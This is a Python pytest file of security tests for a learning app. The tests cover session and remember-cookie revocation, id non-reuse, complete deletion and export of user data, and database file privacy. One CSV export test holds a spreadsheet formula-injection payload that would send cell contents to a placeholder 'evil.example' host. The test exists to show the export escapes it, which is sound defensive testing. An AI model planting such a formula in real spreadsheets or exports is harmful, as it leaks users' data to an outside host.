"""Accounts cannot be inherited: cookies name a per-user secret that dies at logout, password
change and deletion; ids are never reused; a deleted learner leaves no row in any table."""

from __future__ import annotations

import os
import stat
from datetime import UTC
from datetime import datetime
from pathlib import Path

import pytest
import sqlalchemy as sa

from app.account.services import user_tables
from app.auth.services import set_password
from app.extensions import db
from app.models import Attempt
from app.models import Course
from app.models import CourseMember
from app.models import TutorTurn
from app.models import User
from app.teach.stats import fold_pending
from tests.conftest import PASSWORD
from tests.conftest import AuthActions
from tests.integration.test_attempts import attempt
from tests.integration.test_attempts import verdict
from tests.integration.test_hints_api import URL as HINTS_URL
from tests.integration.test_hints_api import earn_first_hint

A_EMAIL, B_EMAIL = "ada@example.org", "bob@example.org"
STUCK = "Ada-private: I keep subtracting"


def cookie(client, name="session"):
    found = client.get_cookie(name)
    return found.value if found else None


def signed_in(client) -> bool:
    return client.get("/journal").status_code == 200


def with_cookie(app, name: str, value: str):
    """A new browser that holds only this one cookie (a copied or stolen one)."""
    other = app.test_client()
    other.set_cookie(name, value)
    return other


def uid(app, email):
    with app.app_context():
        return db.session.scalar(sa.select(User.id).where(User.email == email))


def test_a_deleted_learners_cookie_never_opens_the_next_account(app, client, auth):
    auth.signup(email=A_EMAIL)
    old_session = cookie(client)
    ada = uid(app, A_EMAIL)
    assert client.post("/account/delete", data={"email": A_EMAIL}).status_code == 302

    bob_client = app.test_client()
    AuthActions(bob_client).signup(email=B_EMAIL, name="Bob")
    bob_client.post("/api/attempts", json=attempt())
    assert uid(app, B_EMAIL) > ada  # the id is never handed out again

    thief = with_cookie(app, "session", old_session)
    assert not signed_in(thief)
    assert thief.get("/journal/export.json").status_code == 302
    assert thief.post("/api/attempts", json=attempt()).status_code == 401


def test_ids_are_not_reused_even_after_the_newest_account_is_deleted(app, client, auth):
    auth.signup(email=A_EMAIL)
    first = uid(app, A_EMAIL)
    client.post("/account/delete", data={"email": A_EMAIL})
    auth.signup(email=B_EMAIL)
    assert uid(app, B_EMAIL) == first + 1


def test_logout_ends_a_copied_session_cookie(app, client, auth):
    auth.signup(email=A_EMAIL)
    copied = cookie(client)
    assert signed_in(with_cookie(app, "session", copied))  # the copy works while signed in
    auth.logout()
    assert not signed_in(with_cookie(app, "session", copied))
    auth.login(email=A_EMAIL)
    assert signed_in(client)


def test_remember_cookie_is_short_lived_secure_and_revoked_by_logout(app_factory):
    app = app_factory(SESSION_COOKIE_SECURE=True, REMEMBER_COOKIE_SECURE=True)
    client = app.test_client()
    auth = AuthActions(client)
    auth.signup(email=A_EMAIL)
    auth.logout()
    response = client.post(
        "/auth/login", data={"email": A_EMAIL, "password": PASSWORD, "remember": "y"}
    )
    header = next(
        h for h in response.headers.getlist("Set-Cookie") if h.startswith("remember_token=")
    )
    assert "Secure" in header and "HttpOnly" in header
    expires = client.get_cookie("remember_token").expires
    assert (expires - datetime.now(UTC)).days <= 14
    token = cookie(client, "remember_token")
    assert signed_in(with_cookie(app, "remember_token", token))  # it does sign in, before logout
    auth.logout()
    assert not signed_in(with_cookie(app, "remember_token", token))


def test_the_remember_cookie_is_secure_whenever_the_session_cookie_is(monkeypatch, tmp_path):
    from app.config import load_config

    monkeypatch.setenv("SESSION_COOKIE_SECURE", "true")
    config = load_config(tmp_path)
    assert config["REMEMBER_COOKIE_SECURE"] is True
    assert config["REMEMBER_COOKIE_DURATION"].days == 14


def test_a_password_change_ends_every_session(app, client, auth):
    auth.signup(email=A_EMAIL)
    copied = cookie(client)
    with app.app_context():
        set_password(uid(app, A_EMAIL), "a new and long passphrase")
    assert not signed_in(with_cookie(app, "session", copied))
    assert auth.login(email=A_EMAIL, password="a new and long passphrase").status_code == 302


def practise_everything(client):
    """Rows in every table the app has today, through the real endpoints."""
    earn_first_hint(client)
    assert client.post(HINTS_URL, json={"level": 1, "stuck_text": STUCK}).status_code == 201
    body = attempt(verdict=verdict(status="passed", passed=2, total=2))
    assert client.post("/api/attempts", json=body).status_code == 201
    free = {"kind": "free", "text": "a note"}
    assert client.post("/api/journal", json=free).status_code == 201
    # The tutor is absent without an API key (tests/integration/test_tutor_api.py drives it with
    # a fake transport): its table gets a turn by hand, so deletion is proven there too.
    with client.application.app_context():
        latest = db.session.scalar(sa.select(Attempt).order_by(Attempt.id.desc()).limit(1))
        db.session.add(
            TutorTurn(
                user_id=latest.user_id,
                exercise_id=latest.exercise_id,
                exercise_version=latest.exercise_version,
                level=1,
                question="why does add fail?",
                status="answered",
                context={},
            )
        )
        # A course this learner teaches, and their membership in it (app/teach).
        course = Course(
            name="Tuesday group",
            owner_id=latest.user_id,
            join_code=f"code-{latest.user_id}",
        )
        db.session.add(course)
        db.session.flush()
        db.session.add(CourseMember(course_id=course.id, user_id=latest.user_id, role="instructor"))
        db.session.commit()
        # The dashboard's totals count the checks the API stored when someone reads them.
        fold_pending()


def rows_per_user_table(app, user_id) -> dict[str, int]:
    """Walk the schema: every table with a foreign key to user.id, and this user's rows in it."""
    with app.app_context():
        counts = {}
        for table in db.metadata.sorted_tables:
            for column in table.columns:
                if any(
                    fk.column.table.name == "user" and fk.column.name == "id"
                    for fk in column.foreign_keys
                ):
                    counts[table.name] = db.session.scalar(
                        sa.select(sa.func.count()).select_from(table).where(column == user_id)
                    )
        return counts


def test_deletion_removes_every_row_of_every_table_that_holds_user_data(app, client, auth):
    auth.signup(email=A_EMAIL)
    practise_everything(client)
    other = app.test_client()
    AuthActions(other).signup(email=B_EMAIL)
    practise_everything(other)
    ada, bob = uid(app, A_EMAIL), uid(app, B_EMAIL)
    before = rows_per_user_table(app, ada)
    empty = [name for name, n in before.items() if n == 0]
    assert not empty, f"add rows of {empty} to practise_everything() so deletion is proven there"
    bob_before = rows_per_user_table(app, bob)

    response = client.post("/account/delete", data={"email": A_EMAIL})
    assert response.status_code == 302
    assert rows_per_user_table(app, ada) == {name: 0 for name in before}
    assert rows_per_user_table(app, bob) == bob_before
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "1 hint asked for" in page


def test_the_next_account_sees_no_hint_of_the_deleted_one(app, client, auth):
    auth.signup(email=A_EMAIL)
    practise_everything(client)
    client.post("/account/delete", data={"email": A_EMAIL})
    auth.signup(email=B_EMAIL)
    hints = client.get(HINTS_URL).get_json()
    assert hints["revealed"] == [] and hints["next_level"] == 1
    assert client.get("/api/exercises/fixture-add/reference").status_code == 403


def test_the_database_cascades_a_user_row_deleted_directly(app, client, auth):
    auth.signup(email=A_EMAIL)
    practise_everything(client)
    ada = uid(app, A_EMAIL)
    with app.app_context():
        db.session.execute(sa.delete(User).where(User.id == ada))
        db.session.commit()
    assert set(rows_per_user_table(app, ada).values()) == {0}


def test_exports_hold_every_table_with_user_data(app, client, auth):
    auth.signup(email=A_EMAIL)
    practise_everything(client)
    data = client.get("/journal/export.json").get_json()
    with app.app_context():
        names = {t.name for t in user_tables()}
    assert names <= set(data)
    assert [h["stuck_text"] for h in data["hint_events"]] == [STUCK]
    assert "session_token" not in str(data) and "password_hash" not in str(data)
    for name, count in rows_per_user_table(app, uid(app, A_EMAIL)).items():
        exported = next(t.name for t in user_tables() if t.table.name == name)
        assert len(data[exported]) == count, name


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(app, client, auth):
    auth.signup(email=A_EMAIL)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    client.post("/api/journal", json={"kind": "free", "text": formula})
    client.post("/api/journal", json={"kind": "free", "text": "@SUM(1)"})
    import csv
    import io
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(client.get("/journal/export.csv").data))
    texts = [r["text"] for r in csv.DictReader(io.StringIO(archive.read("journal_entries.csv")
                                                           .decode()))]
    assert texts == ["'" + formula, "'@SUM(1)"]
    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts)


def sqlite_only(app):
    if not app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite"):
        pytest.skip("SQLite settings (PostgreSQL enforces foreign keys and needs no WAL pragma)")


def test_sqlite_enforces_foreign_keys_and_uses_wal(app):
    sqlite_only(app)
    with app.app_context(), db.engine.connect() as connection:
        assert connection.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
        assert connection.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"


def test_the_database_file_is_private(app):
    sqlite_only(app)
    path = Path(db_path(app))
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def db_path(app) -> str:
    return app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
